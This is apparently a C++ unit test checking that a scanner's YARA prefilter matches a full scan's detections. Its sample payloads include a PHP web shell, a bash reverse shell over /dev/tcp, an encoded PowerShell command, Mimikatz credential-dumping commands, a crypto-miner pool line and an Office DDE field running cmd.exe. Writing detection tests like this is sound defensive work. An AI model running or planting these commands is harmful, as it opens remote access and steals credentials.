// YARA's prefilter: with the bundled rules, YARA sees only the stretches of a file around their
// atoms. Its verdicts must be the ones a full YARA scan gives (the same rules loaded from a folder,
// which turns the prefilter off), wherever a string sits: at the start, across a block boundary,
// at the end, in UTF-16 (wide), inside text dense with atoms, and for strings whose atom is far
// from their start or end. And on data with no atom, YARA reads almost nothing.
#include <catch2/catch.hpp>

#include <cstring>
#include <fstream>
#include <set>
#include <string>

#include "scan/detectors.hpp"
#include "scan/scan.hpp"
#include "tests/support/random_bytes.hpp"
#include "tests/support/temp_dir.hpp"
#include "tests/unit/scan_samples.hpp"

using namespace splitfs;
using namespace splitfs::scan;
using splitfs::testing::TempDir;
using splitfs::testing::samples::bytes_of;

namespace {

constexpr std::size_t kBlock = 1u << 20;  // YARA's block
constexpr std::size_t kSize = 3 * kBlock + 777;

Bytes wide(std::string_view text) {
  Bytes out;
  for (const char c : text) {
    out.push_back(static_cast<std::uint8_t>(c));
    out.push_back(0);
  }
  return out;
}

// The rules that fired, without their namespace ("splitfs:x" and "tools:x" are both "x").
std::set<std::string> rules_of(const Verdict& v) {
  std::set<std::string> out;
  for (const Finding& f : v.findings) {
    if (f.detector == "yara")
      out.insert(f.rule.substr(f.rule.find(':') + 1));
  }
  return out;
}

struct Payload {
  const char* what;
  Bytes bytes;
  const char* rule;  // nullptr: a near miss that must stay clean
};

std::vector<Payload> payloads() {
  const std::string b64(64, 'Q');
  return {
      {"a PHP web shell", bytes_of("<?php @eval(base64_decode($_POST['x'])); ?>"),
       "php_webshell_eval"},
      {"a reverse shell", bytes_of("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
       "reverse_shell_dev_tcp"},
      {"an encoded PowerShell command, its atom far from its end",
       bytes_of("powershell.exe -nop -noni -enc " + b64 + " "), "powershell_encoded_command"},
      {"the same, wide", wide("powershell -enc " + b64 + " "), "powershell_encoded_command"},
      {"Mimikatz, its atom inside the string", bytes_of("lsadump::dcsync /user:krbtgt"),
       "credential_dumper_mimikatz"},
      {"Mimikatz, wide", wide("sekurlsa::logonpasswords"), "credential_dumper_mimikatz"},
      {"a miner's pool and its name, the atom past its start",
       bytes_of("stratum+tcp://pool.example.org:3333 --donate-level 1"), "cryptominer_stratum"},
      {"a miner, wide", wide("xmrig stratum+ssl://pool.example.org:443"), "cryptominer_stratum"},
      {"a DDE field", bytes_of("<w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\cmd.exe "),
       "office_dde_field"},
      {"an eval of nothing decoded", bytes_of("<?php eval($code); ?>"), nullptr},
      {"a PowerShell command too short", bytes_of("powershell -enc QQQQ "), nullptr},
      {"Mimikatz's prefix alone", bytes_of("sekurlsa::nothing"), nullptr},
  };
}

void put(Bytes& data, std::size_t at, const Bytes& bytes) {
  std::memcpy(data.data() + at, bytes.data(), bytes.size());
}

}  // namespace

TEST_CASE("YARA's prefilter gives a full scan's verdicts and skips what no rule can match") {
  Settings prefiltered;
  prefiltered.heuristics = false;
  Scanner fast(prefiltered);
  // The same rules from a folder: rules from folders are scanned whole.
  TempDir rules("splitfs-prefilter");
  for (const detail::BundledRule& rule : detail::bundled_rules())
    std::ofstream(rules / rule.file) << rule.text;
  Settings full_settings;
  full_settings.heuristics = false;
  full_settings.bundled_yara_rules = false;
  full_settings.yara_rule_dirs = {rules.path()};
  Scanner full(full_settings);

  const Bytes base = testing::random_bytes(kSize, 31);
  {
    MemorySource source(base);
    const Verdict quick = fast.scan(source, "big.bin");
    const Verdict whole = full.scan(source, "big.bin");
    CHECK(quick.findings.empty());
    CHECK(whole.findings.empty());
    CHECK(quick.stats.bytes_yara_skipped >= kSize * 9 / 10);
    CHECK(whole.stats.bytes_yara_skipped == 0);
  }

  // Text where YARA's atoms ("eval", "inst", "rand") come every few bytes: the prefilter hands
  // YARA the whole block.
  Bytes dense = base;
  const std::string words = "evaluate the instance at random, assert nothing; ";
  for (std::size_t at = kBlock + 1000; at + words.size() < 2 * kBlock - 1000; at += words.size())
    put(dense, at, bytes_of(words));
  {
    MemorySource source(dense);
    const Verdict quick = fast.scan(source, "text.bin");
    CHECK(quick.findings.empty());
    CHECK(quick.stats.bytes_yara_skipped < kSize - kBlock);
  }

  for (const Payload& p : payloads()) {
    SECTION(p.what) {
      for (const std::size_t at :
           {std::size_t{0}, kBlock - 9, kBlock + 4090, 2 * kBlock - p.bytes.size() / 2,
            kBlock + kBlock / 2, kSize - p.bytes.size()}) {
        INFO("at " << at);
        for (const Bytes* around : std::initializer_list<const Bytes*>{&base, &dense}) {
          Bytes data = *around;
          put(data, at, p.bytes);
          MemorySource source(data);
          const std::set<std::string> quick = rules_of(fast.scan(source, "x.bin"));
          CHECK(quick == rules_of(full.scan(source, "x.bin")));
          if (p.rule != nullptr)
            CHECK(quick.count(p.rule) == 1);
          else
            CHECK(quick.empty());
        }
      }
    }
  }
}
